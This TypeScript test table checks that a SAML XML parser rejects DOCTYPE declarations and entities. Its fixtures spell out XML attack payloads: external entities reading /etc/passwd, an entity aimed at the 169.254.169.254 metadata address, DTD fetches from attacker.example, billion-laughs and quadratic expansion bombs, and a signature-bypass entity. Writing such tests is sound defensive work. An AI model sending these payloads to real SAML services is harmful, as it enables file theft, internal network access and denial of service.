import { change, honest, signAssertion, signBoth } from '../honest';
import type { Row } from './row';

const broken = 'saml_xml_invalid';
const signed = () => signAssertion(honest());
const dtd = 'saml_dtd_forbidden';
const headed =
  (head: string, bend: (xml: string) => string = (xml) => xml) =>
  () =>
    `${head}${bend(signBoth(honest()))}`;
const withEntity = (declarations: string, reference: string) =>
  headed(`<!DOCTYPE r [${declarations}]>`, (xml) => change(xml, '>staff<', `>${reference}<`));
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);

export const declarations: readonly Row[] = [
  [
    'doctype',
    'The document has a DOCTYPE that declares nothing',
    dtd,
    headed('<!DOCTYPE Response>'),
    { heldBy: 'no DTD' },
  ],
  ['doctype-in-small-letters', 'The DOCTYPE is in small letters', dtd, headed('<!doctype Response>')],
  [
    'doctype-with-system',
    'The DOCTYPE names a file of the server',
    dtd,
    headed('<!DOCTYPE r SYSTEM "file:///etc/passwd">'),
    { reference: 'CWE-611' },
  ],
  [
    'doctype-with-public',
    'The DOCTYPE names a document on the web',
    dtd,
    headed('<!DOCTYPE r PUBLIC "-//x//y" "https://attacker.example/x.dtd">'),
  ],
  [
    'doctype-behind-declaration',
    'The DOCTYPE follows the XML declaration and a comment',
    dtd,
    headed('<?xml version="1.0"?><!-- --><!DOCTYPE Response>'),
  ],
  [
    'entity-for-value',
    'An entity stands for the name of a group',
    dtd,
    withEntity('<!ENTITY g "owners">', '&g;'),
  ],
  [
    'entity-of-a-file',
    'An entity stands for a file of the server',
    dtd,
    withEntity('<!ENTITY g SYSTEM "file:///etc/passwd">', '&g;'),
    { reference: 'CWE-611' },
  ],
  [
    'entity-of-the-web',
    'An entity stands for an address inside of the network',
    dtd,
    withEntity('<!ENTITY g SYSTEM "http://169.254.169.254/">', '&g;'),
    { reference: 'CWE-918' },
  ],
  [
    'entity-in-signed-value',
    'An entity that is empty when signing and full when reading',
    dtd,
    withEntity('<!ENTITY empty "">', 'staff&empty;'),
  ],
  [
    'parameter-entity',
    'A parameter entity fetches a DTD',
    dtd,
    headed('<!DOCTYPE r [<!ENTITY % d SYSTEM "https://attacker.example/x.dtd"> %d;]>'),
  ],
  [
    'billion-laughs',
    'Entities that hold each other ten times over',
    dtd,
    withEntity(`<!ENTITY l0 "ha">${laughs}`, '&l9;'),
    { reference: 'CWE-776' },
  ],
  [
    'quadratic-entity',
    'One long entity, named many times',
    dtd,
    withEntity(`<!ENTITY l "${'a'.repeat(2000)}">`, '&l;'.repeat(500)),
    { reference: 'CWE-776' },
  ],
  [
    'default-attribute',
    'The DTD gives every NameID another Format by default',
    dtd,
    headed('<!DOCTYPE r [<!ATTLIST saml:NameID Format CDATA "urn:x">]>'),
    { reference: 'Canonical XML 1.0, 4.1' },
  ],
  [
    'declared-id-attribute',
    'The DTD makes another attribute the ID',
    dtd,
    headed('<!DOCTYPE r [<!ATTLIST x any ID #IMPLIED>]>'),
  ],
  ['notation', 'The DTD declares a notation', dtd, headed('<!DOCTYPE r [<!NOTATION n SYSTEM "x">]>')],
  [
    'undeclared-entity',
    'A value names an entity that nobody declared',
    broken,
    () => change(signed(), '>staff<', '>st&aring;ff<'),
  ],
  [
    'html-entity',
    'A value names an entity of HTML',
    broken,
    () => change(signed(), '>staff<', '>staff&nbsp;<'),
  ],
];
